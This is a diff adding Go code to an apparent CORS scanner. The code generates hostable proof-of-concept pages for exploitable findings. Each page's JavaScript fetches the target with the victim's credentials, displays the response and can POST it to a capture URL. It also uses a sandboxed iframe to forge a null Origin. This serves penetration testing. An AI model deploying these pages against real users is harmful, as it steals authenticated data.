@@ -0,0 +1,131 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"html"
+	"log"
+	"os"
+	"path/filepath"
+
+	"cors-scanner/pkg/corscan"
+)
+
+// buildPoC returns an HTML page that, when hosted on the finding's origin
+// and opened by a logged-in victim, reads the target cross-origin with
+// credentials and displays what it received. When captureURL is set the
+// page also posts the outcome there; null-origin findings run the script
+// in a sandboxed iframe so the browser actually sends Origin: null.
+func buildPoC(result ScanResult, captureURL string) string {
+	credentials := "omit"
+	if result.Headers.ACAC == "true" {
+		credentials = "include"
+	}
+	// --fuzz-methods and --header-reflection findings are only reproduced
+	// by a request that triggers the same preflight.
+	options := map[string]interface{}{"credentials": credentials}
+	if result.FuzzMethod != "" {
+		options["method"] = result.FuzzMethod
+	}
+	if result.FuzzHeader != "" {
+		options["headers"] = map[string]string{result.FuzzHeader: "1"}
+	}
+
+	script := fmt.Sprintf(`<pre id="output">Requesting...</pre>
+<script>
+var captureURL = %s;
+function report(query, data) {
+  if (captureURL) {
+    fetch(captureURL + query, {method: "POST", mode: "no-cors", body: data});
+  }
+}
+fetch(%s, %s)
+  .then(function (resp) { return resp.text(); })
+  .then(function (body) {
+    document.getElementById("output").textContent = body;
+    report("", body);
+  })
+  .catch(function (err) {
+    document.getElementById("output").textContent = "Request blocked: " + err;
+    report("?blocked=1", String(err));
+  });
+</script>`,
+		jsString(captureURL),
+		jsString(result.URL),
+		jsValue(options),
+	)
+
+	host := fmt.Sprintf("<p>Host this page on origin <code>%s</code> and open it in a browser that is logged in to the target.</p>\n%s",
+		html.EscapeString(result.Origin), script)
+	if result.Origin == "null" {
+		host = fmt.Sprintf("<p>The request runs from a sandboxed iframe, so it is sent with <code>Origin: null</code>.</p>\n<iframe sandbox=\"allow-scripts\" width=\"100%%\" height=\"400\" srcdoc=\"%s\"></iframe>",
+			html.EscapeString(script))
+	}
+
+	return fmt.Sprintf(`<!DOCTYPE html>
+<html>
+<head>
+<meta charset="utf-8">
+<title>CORS PoC - %s</title>
+</head>
+<body>
+<h1>CORS proof of concept</h1>
+<p>Target: <code>%s</code></p>
+%s
+</body>
+</html>
+`,
+		html.EscapeString(result.URL),
+		html.EscapeString(result.URL),
+		host,
+	)
+}
+
+// jsString quotes s as a JavaScript string literal that is also safe to
+// embed inside a <script> element.
+func jsString(s string) string {
+	return jsValue(s)
+}
+
+// jsValue writes v as a JavaScript literal that is also safe to embed
+// inside a <script> element; json.Marshal escapes <, > and &.
+func jsValue(v interface{}) string {
+	literal, _ := json.Marshal(v)
+	return string(literal)
+}
+
+// exploitable reports whether a result lets a foreign origin read the
+// target in the browser: a wildcard only exposes what anyone can fetch,
+// and --verify may have shown that credentials break the policy.
+func exploitable(result ScanResult) bool {
+	return result.Class != corscan.ClassWildcard && containsString(confirmableClasses, result.Class) &&
+		result.Verification != verifyPotential
+}
+
+// writePoCFiles writes a ready-to-host PoC page, <finding>.html, for every
+// exploitable finding to --poc-dir.
+func writePoCFiles() {
+	if config.PoCDir == "" {
+		return
+	}
+	if err := os.MkdirAll(config.PoCDir, 0755); err != nil {
+		log.Printf("Error creating %s: %v", config.PoCDir, err)
+		emitError(errOutput, config.PoCDir, err)
+		return
+	}
+
+	written := 0
+	for _, result := range results {
+		if !exploitable(result) {
+			continue
+		}
+		path := filepath.Join(config.PoCDir, fingerprint(result)+".html")
+		if err := os.WriteFile(path, []byte(buildPoC(result, "")), 0644); err != nil {
+			log.Printf("Error writing %s: %v", path, err)
+			emitError(errOutput, path, err)
+			continue
+		}
+		written++
+	}
+	fmt.Printf("[+] Wrote PoC pages for %d findings to %s.\n", written, config.PoCDir)
+}